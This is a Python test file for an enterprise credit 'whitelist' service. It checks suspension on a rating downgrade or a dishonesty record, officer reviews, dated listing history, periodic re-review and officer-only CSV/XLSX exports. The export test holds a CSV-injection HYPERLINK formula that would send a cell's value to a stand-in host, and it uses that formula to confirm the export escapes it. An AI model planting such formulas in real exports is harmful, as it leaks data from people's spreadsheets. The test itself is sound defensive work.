"""The living list: suspension on downgrade or dishonesty (once), reviews, history, periodic re-review."""

from __future__ import annotations

import json
import uuid
from datetime import UTC, date, datetime, timedelta

import httpx
from sqlalchemy import select

from whitelist.testing import CREDIT, LG, deliver, rating
from xinyidai_shared.events import DishonestyRecorded, DishonestyRemoved, RiskAlertRaised


async def _events(api: httpx.AsyncClient, type_: str) -> list[dict]:
    runtime = api.app.state.runtime  # type: ignore[attr-defined]
    outbox = runtime.spec.tables.outbox
    async with runtime.db.read_session() as session:
        rows = (await session.execute(select(outbox.c.envelope).where(outbox.c.type == type_).order_by(outbox.c.seq))).all()
    return [json.loads(r.envelope) for r in rows]


async def _open_reviews(api: httpx.AsyncClient) -> list[dict]:
    return (await api.get("/v1/reviews", headers=CREDIT)).json()


async def test_downgrade_arriving_twice_suspends_once_and_publishes_one_delisting(api, to_state) -> None:
    member = await to_state("recommended")
    downgrade = rating(member["uscc"], "B")
    event_id = uuid.uuid4()
    assert await deliver(api.app, downgrade, event_id=event_id) is True
    assert await deliver(api.app, downgrade, event_id=event_id) is False  # same event redelivered: inbox
    assert await deliver(api.app, rating(member["uscc"], "C")) is True  # another downgrade while suspended
    delistings = await _events(api, "EnterpriseDelisted")
    assert len(delistings) == 1
    assert delistings[0]["payload"]["suspended"] is True
    assert delistings[0]["payload"]["reason_code"] == "CREDIT_RATING_BELOW_A"
    detail = (await api.get(f"/v1/public/list/{member['uscc']}")).json()
    assert detail["status"] == "suspended"
    assert [p["status"] for p in detail["history"]] == ["listed", "suspended"]
    # The public sees why by code only: the officers' text names the grade, which is not public.
    assert "B" not in str([sorted(p.items()) for p in detail["history"]]).replace("CREDIT_RATING_BELOW_A", "")
    assert set(detail["history"][1]) == {"status", "from_on", "to_on", "reason_code"}
    assert (await api.get("/v1/public/list")).json() == []
    reviews = await _open_reviews(api)
    assert len(reviews) == 1 and reviews[0]["trigger"] == "CREDIT_RATING_BELOW_A"


async def test_late_arriving_older_rating_does_not_suspend(api, to_state) -> None:
    member = await to_state("recommended")
    old = rating(member["uscc"], "C", at=datetime(2020, 1, 1, tzinfo=UTC))
    await deliver(api.app, old)
    assert (await api.get(f"/v1/public/list/{member['uscc']}")).json()["status"] == "listed"


async def test_dishonesty_record_suspends_and_review_restores_only_once_credit_is_clean(api, to_state) -> None:
    member = await to_state("recommended")
    uscc = member["uscc"]
    await deliver(api.app, DishonestyRecorded(uscc=uscc, record_id="court-1", source="court", reason="被执行人",
                                              started_on=date(2026, 11, 1)))
    review = (await _open_reviews(api))[0]
    assert review["trigger"] == "DISHONESTY_RECORDED"
    url = f"/v1/reviews/{review['id']}/decision"
    refused = await api.post(url, json={"decision": "keep", "reason": "looks fine"}, headers=CREDIT)
    assert refused.status_code == 422 and refused.json()["reason_codes"] == ["DISHONESTY_RECORDED"]
    assert (await api.post(url, json={"decision": "keep", "reason": "x"}, headers=LG)).status_code == 403
    await deliver(api.app, DishonestyRemoved(uscc=uscc, record_id="court-1", reason="履行完毕",
                                             removed_on=date(2026, 11, 2)))
    restored = await api.post(url, json={"decision": "keep", "reason": "record removed"}, headers=CREDIT)
    assert restored.status_code == 200 and restored.json()["decision"] == "keep"
    assert (await api.get(f"/v1/public/list/{uscc}")).json()["status"] == "listed"
    assert len(await _events(api, "EnterpriseRecommended")) == 2  # recommended, then restored
    again = await api.post(url, json={"decision": "remove", "reason": "x"}, headers=CREDIT)
    assert again.status_code == 409 and again.json()["code"] == "REVIEW_CLOSED"


async def test_review_can_remove_and_history_answers_listed_on_a_date(api, to_state, clock) -> None:
    member = await to_state("recommended")  # listed on 2026-11-02 (clock)
    uscc = member["uscc"]
    clock.advance(days=10)
    await deliver(api.app, rating(uscc, "D"))  # suspended on 2026-11-12 ...
    review = (await _open_reviews(api))[0]
    clock.advance(days=3)
    removed = await api.post(f"/v1/reviews/{review['id']}/decision", json={"decision": "remove", "reason": "D"},
                             headers=CREDIT)  # ... and removed on 2026-11-15
    assert removed.status_code == 200
    delisted = await _events(api, "EnterpriseDelisted")
    assert [e["payload"]["suspended"] for e in delisted] == [True, False]
    on_listing_day = (await api.get(f"/v1/public/list/{uscc}/on", params={"date": "2026-11-02"})).json()
    assert on_listing_day == {"uscc": uscc, "on": "2026-11-02", "status": "listed", "listed": True}
    before = (await api.get(f"/v1/public/list/{uscc}/on", params={"date": "2026-11-01"})).json()
    assert before["listed"] is False and before["status"] is None
    last_listed = (await api.get(f"/v1/public/list/{uscc}/on", params={"date": "2026-11-11"})).json()
    assert last_listed["listed"] is True
    suspended = (await api.get(f"/v1/public/list/{uscc}/on", params={"date": "2026-11-14"})).json()
    assert suspended["status"] == "suspended" and suspended["listed"] is False
    later = (await api.get(f"/v1/public/list/{uscc}/on", params={"date": "2030-01-01"})).json()
    assert later == {"uscc": uscc, "on": "2030-01-01", "status": "removed", "listed": False}
    reapply = await to_state("submitted", uscc=uscc)
    assert reapply["status"] == "submitted"


async def test_periodic_sweep_opens_one_review_per_member_when_due(api, to_state, clock) -> None:
    member = await to_state("recommended")
    assert (await api.post("/v1/reviews/sweep", headers=CREDIT)).json() == {"opened": 0}
    clock.advance(days=366)
    assert (await api.post("/v1/reviews/sweep", headers=CREDIT)).json() == {"opened": 1}
    assert (await api.post("/v1/reviews/sweep", headers=CREDIT)).json() == {"opened": 0}
    review = (await _open_reviews(api))[0]
    assert review["trigger"] == "PERIODIC" and review["uscc"] == member["uscc"]
    kept = await api.post(f"/v1/reviews/{review['id']}/decision", json={"decision": "keep", "reason": "ok"}, headers=CREDIT)
    assert kept.status_code == 200
    detail = (await api.get(f"/v1/public/list/{member['uscc']}")).json()
    assert detail["status"] == "listed" and detail["last_reviewed_on"] == (date(2026, 11, 2) + timedelta(days=366)).isoformat()


async def test_critical_risk_alert_opens_a_review_without_suspending(api, to_state) -> None:
    member = await to_state("recommended")
    alert = RiskAlertRaised(uscc=member["uscc"], alert_id="a1", rule="utility_arrears", severity="critical",
                            detail="water unpaid 6 months", raised_at=datetime.now(UTC))
    await deliver(api.app, alert)
    await deliver(api.app, alert.model_copy(update={"alert_id": "a2", "severity": "warning"}))
    reviews = await _open_reviews(api)
    assert [r["trigger"] for r in reviews] == ["RISK_ALERT"]
    assert (await api.get(f"/v1/public/list/{member['uscc']}")).json()["status"] == "listed"


async def test_exports_give_every_member_as_csv_and_xlsx_to_officers_only(api, to_state) -> None:
    import csv
    import io

    from openpyxl import load_workbook

    # An enterprise's name is text from outside: a spreadsheet must show it, never run it (CSV injection).
    formula = '=HYPERLINK("http://example.invalid/?leak="&A2,"凌源市示范制造有限公司")'
    member = await to_state("recommended", name=formula)
    csv_response = await api.get("/v1/exports/list.csv", headers=LG)
    assert csv_response.status_code == 200 and csv_response.headers["content-type"].startswith("text/csv")
    lines = csv_response.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("uscc,name,status") and member["uscc"] in lines[1]
    assert next(csv.reader(lines[1:2]))[1] == "'" + formula
    xlsx = await api.get("/v1/exports/list.xlsx", headers=CREDIT)
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.cell(2, 1).value == member["uscc"] and sheet.cell(2, 3).value == "listed"
    assert sheet.cell(2, 2).value == "'" + formula and sheet.cell(2, 2).data_type == "s"
    assert (await api.get("/v1/exports/list.csv")).status_code == 401
    assert (await api.get("/v1/exports/list.csv", headers={"Authorization": "Bearer nope"})).status_code == 401
